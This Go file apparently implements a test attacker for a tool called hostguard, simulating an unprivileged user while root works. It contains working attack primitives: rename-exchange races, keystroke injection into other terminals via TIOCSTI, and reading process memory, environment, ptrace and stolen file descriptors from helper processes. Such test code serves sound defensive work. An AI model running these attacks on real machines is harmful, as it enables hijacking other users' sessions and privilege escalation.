// Command attack is what a user without rights does on a machine while root works there.
// Each attack lasts until there is a file "stop" in its working directory, and then prints
// what it has got as lines "name=number".
//
//	attack exchange A B [C D]...   exchanges the two entries of each pair for each other
//	attack type TEXT               types into each terminal that it can get hold of
//	attack trace                   looks into the processes of its user that are hostguard's
//
// There is a file "enough" once it has got far.
package main

import (
	"bytes"
	"fmt"
	"log"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	attacks := map[string]func(args []string) map[string]int{"exchange": exchange, "type": keys, "trace": trace}
	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
		log.Fatalf("arguments %q", os.Args[1:])
	}
	got := attacks[os.Args[1]](os.Args[2:])
	for _, name := range slices.Sorted(maps.Keys(got)) {
		fmt.Printf("%s=%d\n", name, got[name])
	}
}

// text is where the program of a helper begins in its memory: Go's, for all but PIE.
const text = 0x400000

func stopped() bool { return unix.Access("stop", unix.F_OK) == nil }

// far makes the file that root waits for.
func far() {
	if err := os.WriteFile("enough", nil, 0o644); err != nil {
		log.Fatal(err)
	}
}

// exchange counts only what could be exchanged: root and its own user may be changing them.
func exchange(paths []string) map[string]int {
	n := 0
	for round := 0; round%1000 != 0 || !stopped(); round++ {
		for pair := range slices.Chunk(paths, 2) {
			if unix.Renameat2(unix.AT_FDCWD, pair[0], unix.AT_FDCWD, pair[1], unix.RENAME_EXCHANGE) != nil {
				continue
			}
			if n++; n == enough*len(paths)/2 {
				far()
			}
		}
	}
	return map[string]int{"exchanges": n}
}

const enough = 10_000 // exchanges of each pair

// keys types into its own terminal, which it may, and into those of others.
func keys(text []string) map[string]int {
	got := map[string]int{}
	for {
		files, _ := filepath.Glob("/proc/[0-9]*/fd/*")
		terminals, _ := filepath.Glob("/dev/pts/*")
		for _, file := range slices.Concat([]string{"/dev/tty", "/dev/console", "/dev/ptmx"}, terminals, files) {
			if strings.HasPrefix(file, "/proc") {
				if to, err := os.Readlink(file); err != nil || !strings.HasPrefix(to, "/dev/") {
					continue
				}
			}
			for _, mode := range []int{unix.O_RDWR, unix.O_RDONLY, unix.O_WRONLY} {
				fd, err := unix.Open(file, mode|unix.O_NOCTTY|unix.O_NONBLOCK, 0)
				if err != nil {
					continue
				}
				if typed(fd, text[0]) {
					got["typed"]++
				}
				_ = unix.Close(fd)
			}
		}
		if got["rounds"]++; got["rounds"] == 1 {
			far()
		}
		if got["typed"] > 0 || stopped() {
			return got
		}
		time.Sleep(time.Millisecond)
	}
}

func typed(fd int, text string) bool {
	for _, key := range []byte(text + "\n") {
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&key)))
		if errno != 0 {
			return false
		}
	}
	return true
}

// trace counts what it can do to helpers of hostguard: they run as its user, whom root's
// own processes are not.
func trace([]string) map[string]int {
	got := map[string]int{"helpers": 0}
	seen := map[int]bool{}
	for round := 0; round%100 != 0 || !stopped(); round++ {
		entries, err := os.ReadDir("/proc")
		if err != nil {
			log.Fatal(err)
		}
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || !helper(pid) {
				continue
			}
			if !seen[pid] {
				seen[pid] = true
				if got["helpers"]++; got["helpers"] == 3 {
					far()
				}
			}
			look(pid, got)
		}
	}
	return got
}

func helper(pid int) bool {
	proc := fmt.Sprintf("/proc/%d", pid)
	argv, err := os.ReadFile(proc + "/cmdline")
	if err != nil || !bytes.Contains(argv, []byte("answer-as-user")) {
		return false
	}
	status, err := os.ReadFile(proc + "/status")
	return err == nil && strings.Contains(string(status), fmt.Sprintf("\nUid:\t%d\t", os.Getuid()))
}

func look(pid int, got map[string]int) {
	proc := fmt.Sprintf("/proc/%d/", pid)
	if stat, err := os.ReadFile(proc + "stat"); err == nil {
		_, after, _ := strings.Cut(string(stat), ") ")
		fields := strings.Fields(after) // from the state on
		if session, terminal := fields[3], fields[4]; session != strconv.Itoa(pid) || terminal != "0" {
			got["session"]++
		}
	}
	for _, file := range []string{"mem", "environ", "maps", "auxv"} {
		f, err := os.Open(proc + file)
		if err != nil {
			continue
		}
		at := int64(0)
		if file == "mem" {
			at = text
		}
		// Those of a process that is ending can be opened, and are empty.
		if n, _ := f.ReadAt(make([]byte, 1), at); n > 0 {
			got[file]++
		}
		f.Close()
	}
	for _, link := range []string{"fd/0", "fd/2", "cwd", "exe"} {
		if _, err := os.Readlink(proc + link); err == nil {
			got[link]++
		}
	}
	if unix.PtraceSeize(pid) == nil {
		got["traced"]++
		_ = unix.PtraceDetach(pid)
	}
	if fd, err := unix.PidfdOpen(pid, 0); err == nil {
		if stolen, err := unix.PidfdGetfd(fd, 1, 0); err == nil {
			got["stolen"]++
			_ = unix.Close(stolen)
		}
		_ = unix.Close(fd)
	}
}
